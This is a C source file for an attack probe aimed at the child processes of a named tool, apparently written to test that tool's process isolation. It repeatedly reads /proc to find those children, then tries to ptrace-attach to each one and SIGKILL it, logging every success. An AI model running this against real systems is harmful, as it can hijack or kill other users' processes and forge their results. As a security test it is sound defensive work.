/* An unprivileged user's attack on the programs that a tool starts: whoever may trace or kill one can forge its answer.
 *
 *   forge TOOL
 *
 * Prints `ready`, and tries to trace and to kill each process that TOOL has started, until it is killed itself. A line on standard error
 * for each success, and one for each process that it sees.
 */
#define _GNU_SOURCE
#include <glob.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/ptrace.h>
#include <sys/wait.h>
#include <unistd.h>

enum { MOST = 1 << 22, SEEN = 1, DONE = 2 };

static char known[MOST];

static void attack(int child)
{
    if (child <= 0 || child >= MOST || known[child] == DONE)
        return;
    if (!known[child])
        fprintf(stderr, "seen %d\n", child);
    int is_traced = !ptrace(PTRACE_SEIZE, child, 0, 0), is_killed = !kill(child, SIGKILL);
    if (is_traced || is_killed)
        fprintf(stderr, "%s %d\n", is_traced ? "traced" : "killed", child);
    known[child] = is_traced || is_killed ? DONE : SEEN;
}

int main(int count, char **words)
{
    char pattern[64];
    if (count != 2)
        return 2;
    printf("ready\n");
    fflush(stdout);
    snprintf(pattern, sizeof pattern, "/proc/%.9s/task/*/children", words[1]);
    for (;; usleep(100)) {
        glob_t found;
        if (glob(pattern, GLOB_NOSORT, NULL, &found))
            continue;
        for (size_t i = 0; i < found.gl_pathc; i++) {
            int child;
            FILE *file = fopen(found.gl_pathv[i], "r");
            while (file && fscanf(file, "%d", &child) == 1)
                attack(child);
            if (file)
                fclose(file);
        }
        globfree(&found);
        while (waitpid(-1, NULL, __WALL | WNOHANG) > 0) /* of a traced process that was killed: its parent learns of it then */
            ;
    }
}
